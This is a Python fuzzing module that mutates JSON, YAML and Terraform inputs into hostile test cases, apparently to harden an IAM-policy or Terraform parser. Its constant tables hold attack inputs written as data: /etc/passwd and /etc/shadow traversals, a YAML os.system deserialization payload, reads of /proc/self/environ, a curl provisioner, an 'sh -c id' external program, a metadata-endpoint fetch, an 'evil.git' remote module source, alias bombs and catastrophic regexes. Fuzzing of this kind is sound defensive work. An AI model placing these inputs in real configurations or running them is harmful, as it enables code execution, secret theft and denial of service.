"""Structure-aware mutations of real input files, driven by a seeded ``random.Random``.

A mutation takes the text of one real input (and the other seeds of its kind, for splices)
and returns hostile text of the same kind: JSON and YAML are parsed, one node is changed and
the document written back (type swaps, duplicate keys, deep nesting, huge numbers, hostile
strings, alias bombs); HCL gets hostile function calls and module sources spliced into its
expressions; every kind also gets byte-level damage. Everything depends only on the
``random.Random`` passed in, so a seed reproduces a case exactly.
"""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Sequence
from typing import Any

import yaml

# Strings an attacker would put anywhere a string goes: terminal control, bidi overrides,
# rich markup, NULs, lone surrogates (escaped in JSON), pathological glob patterns, paths.
HOSTILE_STRINGS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\u202eevil\u202c",
    "\u2066iso\u2069\u200b\ufeff",
    "[bold red]markup[/]",
    "[/]",
    "[link=file:///etc/passwd]x[/link]",
    "\r\n\t\x7f\x85\u2028",
    "*" * 200,
    "*?" * 500 + "x",
    "a" * 70_000,
    "${aws:username}${" * 50,
    "arn:aws:iam::111122223333:role/" + "a/" * 300,
    "arn:aws:s3:::*",
    "arn:*:*:*:*:*",
    "arn:aws:iam::*:root",
    "../../../../etc/passwd",
    "/etc/passwd",
    "https://example.com/x",
    "%s%n%x{0}{__class__}",
    "\U0001d518\U0001d52b\U0001d526 \u0130\u0131 \u00df \ufb01"  # confusables, case folding,
    "s3:*",
    "*:*",
    "iam:PassRole",
    "Allow",
    "Deny",
    "2012-10-17",
    "true",
    "null",
)

HOSTILE_NUMBERS: tuple[Any, ...] = (
    0,
    -1,
    2**63,
    -(2**63) - 1,
    10**400,
    1e308,
    -0.0,
    0.1,
    True,
    False,
)


def _hostile_scalar(rng: random.Random) -> Any:
    choice = rng.random()
    if choice < 0.55:
        return rng.choice(HOSTILE_STRINGS)
    if choice < 0.8:
        return rng.choice(HOSTILE_NUMBERS)
    return None


def _hostile_value(rng: random.Random, depth: int = 0) -> Any:
    """A scalar, or a small container of hostile values."""
    roll = rng.random()
    if depth < 2 and roll < 0.15:
        return [_hostile_value(rng, depth + 1) for _ in range(rng.randint(0, 3))]
    if depth < 2 and roll < 0.3:
        return {
            str(rng.choice(HOSTILE_STRINGS))[:40]: _hostile_value(rng, depth + 1)
            for _ in range(rng.randint(0, 3))
        }
    return _hostile_scalar(rng)


def _deep(rng: random.Random, inner: Any) -> Any:
    depth = rng.choice((50, 99, 101, 200, 1000, 5000))
    for _ in range(depth):
        inner = [inner] if rng.random() < 0.5 else {"Statement": inner}
    return inner


# -- tree mutations (JSON and YAML) ----------------------------------------------------------


def _nodes(tree: Any, cap: int = 200_000) -> list[tuple[Any, Any]]:
    """The (container, key) pairs of ``tree``, iteratively (documents may be deep); each
    container once (YAML aliases share them, and may make cycles), at most ``cap`` pairs."""
    out: list[tuple[Any, Any]] = []
    stack = [tree]
    seen: set[int] = set()
    while stack and len(out) < cap:
        node = stack.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        if isinstance(node, dict):
            for key, value in node.items():
                out.append((node, key))
                stack.append(value)
        elif isinstance(node, list):
            for index, value in enumerate(node):
                out.append((node, index))
                stack.append(value)
    return out


def mutate_tree(rng: random.Random, tree: Any, donors: Sequence[Any]) -> Any:
    """Change one node of a parsed document (in place when possible) and return the tree."""
    nodes = _nodes(tree)
    if not nodes:
        return _hostile_value(rng)
    container, key = rng.choice(nodes)
    value = container[key]
    op = rng.randrange(9)
    if op == 0:  # type swap
        container[key] = _hostile_value(rng)
    elif op == 1:  # swap with a node of another real document of this kind
        donor_nodes = _nodes(rng.choice(donors)) if donors else []
        if donor_nodes:
            d_container, d_key = rng.choice(donor_nodes)
            container[key] = d_container[d_key]
    elif op == 2:  # deep nesting
        container[key] = _deep(rng, value)
    elif op == 3:  # delete
        del container[key]
    elif op == 4 and isinstance(value, str):  # string surgery
        extra = rng.choice(HOSTILE_STRINGS)
        cut = rng.randint(0, len(value))
        container[key] = value[:cut] + extra + value[cut:]
    elif op == 5:  # wrap a scalar in a list or a list in a dict
        container[key] = [value, value] if not isinstance(value, list) else {"x": value}
    elif op == 6 and isinstance(container, dict):  # case change of a key (Effect -> effect)
        new_key = str(key).swapcase() if rng.random() < 0.5 else str(key).lower()
        container[new_key] = container.pop(key)
    elif op == 7 and isinstance(value, list):  # blow a list up
        container[key] = value * rng.choice((2, 50, 1000))
    else:  # add a key or an element
        if isinstance(value, dict):
            value[rng.choice(HOSTILE_STRINGS)[:60] or "k"] = _hostile_value(rng)
        elif isinstance(value, list):
            value.insert(rng.randint(0, len(value)), _hostile_value(rng))
        else:
            container[key] = _hostile_value(rng)
    return tree


def _dump_json(rng: random.Random, tree: Any) -> str:
    try:
        text = json.dumps(tree, ensure_ascii=rng.random() < 0.5)
    except (ValueError, RecursionError):
        text = json.dumps(_hostile_value(rng))
    if rng.random() < 0.2:
        # A duplicate key (json.dumps never writes one): repeat the first member of an object.
        match = re.search(r'\{("[^"\\]{1,40}": ("[^"\\]{0,80}"|[-\w.]{1,20}))', text)
        if match:
            text = text[: match.end()] + ", " + match.group(1) + text[match.end() :]
    return text


def _dump_yaml(rng: random.Random, tree: Any) -> str:
    try:
        return yaml.safe_dump(tree, allow_unicode=rng.random() < 0.5, sort_keys=False)
    except (yaml.YAMLError, RecursionError, ValueError):
        return yaml.safe_dump(_hostile_value(rng))


# -- text mutations ----------------------------------------------------------------------------


def mutate_bytes(rng: random.Random, text: str, donors: Sequence[str]) -> str:
    """Byte-level damage: flips, cuts, duplications and splices from another seed."""
    data = bytearray(text.encode("utf-8", "surrogatepass"))
    for _ in range(rng.randint(1, 4)):
        if not data:
            data.extend(b"{")
        op = rng.randrange(6)
        pos = rng.randrange(len(data))
        if op == 0:
            data[pos] ^= 1 << rng.randrange(8)
        elif op == 1:
            del data[pos : pos + rng.randint(1, 64)]
        elif op == 2:
            chunk = data[pos : pos + rng.randint(1, 128)]
            data[pos:pos] = chunk * rng.randint(1, 20)
        elif op == 3:
            data[pos:pos] = rng.choice(
                (b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"\xc3", b'"', b"{", b"[", b"}", b"]")
            )
        elif op == 4 and donors:
            donor = rng.choice(donors).encode("utf-8", "surrogatepass")
            start = rng.randrange(max(1, len(donor)))
            data[pos:pos] = donor[start : start + rng.randint(1, 256)]
        else:
            del data[pos:]
    return data.decode("utf-8", "surrogateescape")


_YAML_SPECIALS: tuple[str, ...] = (
    # alias bomb: each level refers to the previous one nine times
    "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
    ),
    "x: !!python/object/apply:os.system ['echo pwned']\n",
    "x: !!python/name:os.system\n",
    "x: !!binary aGVsbG8=\n",
    "x: &r [*r]\n",
    "base: &b {Effect: Allow}\nx: {<<: *b, <<: *b}\n",
    "x: 2025-01-31T12:00:00Z\ny: 0o777\nz: 1_000\nw: .inf\nv: !!float nan\n",
    "? [a, b]\n: complex key\n",
    "%YAML 1.2\n---\nx: 1\n---\ny: 2\n",
    "x: !custom tag\n",
    "x: '" + "\\" * 100 + "'\n",
    "\t- tab\n",
)


def mutate_yaml_text(rng: random.Random, text: str) -> str:
    """YAML-only constructs (aliases, tags, merge keys, documents) spliced at a line start."""
    special = rng.choice(_YAML_SPECIALS)
    if rng.random() < 0.4:
        return special
    lines = text.splitlines(keepends=True)
    where = rng.randint(0, len(lines))
    indent = ""
    if where < len(lines):
        indent = lines[where][: len(lines[where]) - len(lines[where].lstrip(" "))]
    body = "".join(indent + line + "\n" for line in special.splitlines())
    return "".join(lines[:where]) + body + "".join(lines[where:])


_HCL_EXPRESSIONS: tuple[str, ...] = (
    "range(100000000)",
    "range(0, 1e12, 1)",
    'format("%999999999s", "x")',
    'format("%.999999999f", 1)',
    'join(",", range(1000))',
    'regex("(a*)*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
    'replace("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac", "/(a+)+$/", "x")',
    'regexall("(?i)(x|y)*z", "xyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxy")',
    'file("/etc/passwd")',
    'file("../../../../etc/shadow")',
    'filebase64("/proc/self/environ")',
    'fileset("/", "**")',
    'templatefile("/etc/passwd", {})',
    "jsonencode({ a = [[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]] })",
    'jsondecode("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]")',
    "pow(10, 400)",
    "1e400",
    "-1",
    'strrev("\u202eabc")',
    'substr("abc", 0, 99999999999)',
    "flatten([for i in range(1000) : [for j in range(1000) : j]])",
    "setproduct(range(1000), range(1000), range(1000))",
    'lower("[bold]x[/]")',
    "null",
    "{}",
    "[]",
    '"${"',
    "var.nope",
    "local.self_ref",
    "data.aws_iam_policy_document.missing.json",
    'base64decode("////")',
    'cidrsubnets("10.0.0.0/8", 24, 24, 24)',
    'env("HOME")',
    "uuid()",
    "timestamp()",
)

_HCL_BLOCKS: tuple[str, ...] = (
    'module "remote" {\n  source = "git::https://example.com/evil.git?ref=v1"\n}\n',
    'module "registry" {\n  source = "hashicorp/consul/aws"\n  version = "0.1.0"\n}\n',
    'module "http" {\n  source = "https://example.com/module.zip"\n}\n',
    'module "s3" {\n  source = "s3::https://s3.amazonaws.com/bucket/module.zip"\n}\n',
    'module "up" {\n  source = "../../../../../../"\n}\n',
    'module "self" {\n  source = "./"\n}\n',
    "locals {\n  self_ref = local.self_ref\n  a = local.b\n  b = local.a\n}\n",
    'resource "aws_iam_role" "many" {\n  count = 100000000\n  name = "r${count.index}"\n'
    '  assume_role_policy = "{}"\n}\n',
    'resource "aws_iam_user" "each" {\n  for_each = toset([for i in range(1024) : tostring(i)])\n'
    "  name = each.key\n}\n",
    'provisioner "local-exec" {\n  command = "curl http://example.com"\n}\n',
    'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n',
    'data "http" "x" {\n  url = "http://169.254.169.254/latest/meta-data/"\n}\n',
    'variable "v" {\n  default = "\x1b[31m[/]"\n  validation {\n    condition = can(regex("(a*)*$", var.v))\n'
    '    error_message = "x"\n  }\n}\n',
)

_HCL_VALUE = re.compile(r'(=\s*)("(?:[^"\\\n]|\\.)*"|\[[^\]\n]*\]|[\w.\-]+)')


def mutate_hcl_text(rng: random.Random, text: str) -> str:
    """Hostile Terraform: function calls with hostile arguments, remote module sources."""
    if rng.random() < 0.35:
        return text + "\n" + rng.choice(_HCL_BLOCKS)
    matches = list(_HCL_VALUE.finditer(text))
    if not matches:
        return text + "\n" + rng.choice(_HCL_BLOCKS)
    match = rng.choice(matches)
    expression = rng.choice(_HCL_EXPRESSIONS)
    if match.group(2).startswith('"') and rng.random() < 0.5:
        expression = match.group(2)[:-1] + "${" + expression + '}"'
    return text[: match.start(2)] + expression + text[match.end(2) :]


# -- per kind -----------------------------------------------------------------------------------


def _parse(text: str, kind: str) -> Any:
    if kind == "json":
        return json.loads(text)
    return yaml.safe_load(text)


def mutate(rng: random.Random, text: str, syntax: str, donors: Sequence[str]) -> str:
    """One mutation of ``text``, written in ``syntax`` (``json``, ``yaml`` or ``hcl``)."""
    roll = rng.random()
    if roll < 0.2:
        return mutate_bytes(rng, text, donors)
    if syntax == "hcl":
        out = text
        for _ in range(rng.randint(1, 3)):
            out = mutate_hcl_text(rng, out)
        return out
    if syntax == "yaml" and roll < 0.4:
        return mutate_yaml_text(rng, text)
    try:
        tree = _parse(text, syntax)
    except (ValueError, yaml.YAMLError):
        return mutate_bytes(rng, text, donors)
    parsed_donors: list[Any] = []
    for donor in rng.sample(list(donors), min(2, len(donors))):
        try:
            parsed_donors.append(_parse(donor, syntax))
        except (ValueError, yaml.YAMLError):
            continue
    for _ in range(rng.randint(1, 3)):
        tree = mutate_tree(rng, tree, parsed_donors)
    dump: Callable[[random.Random, Any], str] = _dump_json if syntax == "json" else _dump_yaml
    return dump(rng, tree)
